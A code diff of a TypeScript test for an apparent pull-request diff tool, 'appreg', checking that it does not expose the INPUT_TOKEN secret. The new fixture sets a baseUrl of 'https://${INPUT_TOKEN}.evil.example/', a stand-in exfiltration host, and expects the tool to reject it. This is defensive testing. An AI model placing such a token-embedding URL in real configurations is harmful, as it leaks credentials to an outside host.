@@ -133,16 +133,13 @@ describe('diff on a pull request', () => {
 
   test('does not pass the token to appreg', async () => {
     const host = await openHost();
-    const config = `if (process.env.INPUT_TOKEN) throw new Error('The token is readable.');
-export default { baseUrl: 'https://apps.example.com/' };\n`;
-    const files = (versions: Record<string, Uint8Array>): Record<string, unknown> => {
-      const { 'appreg.config.json': _, ...others } = registry(versions);
-      return { ...others, 'appreg.config.mjs': config };
+    const files = {
+      ...registry({ '1.0.0': ONE }),
+      'appreg.config.json': { baseUrl: 'https://${INPUT_TOKEN}.evil.example/' },
     };
-    const change = pullRequest(files({ '1.0.0': ONE }), files({ '1.0.0': ONE, '1.1.0': TWO }));
-    const { code, log, outputs } = run(host, change, { 'config-format': 'any' });
-    expect(code, log).toBe(0);
-    expect(outputs['comment']).not.toBe('');
+    const { code, log } = run(host, pullRequest(files, files));
+    expect(code).toBe(2);
+    expect(log).toContain('requires the environment variable INPUT_TOKEN (in /baseUrl), which is not set');
   });
 
   test('escapes what a registry contains', async () => {
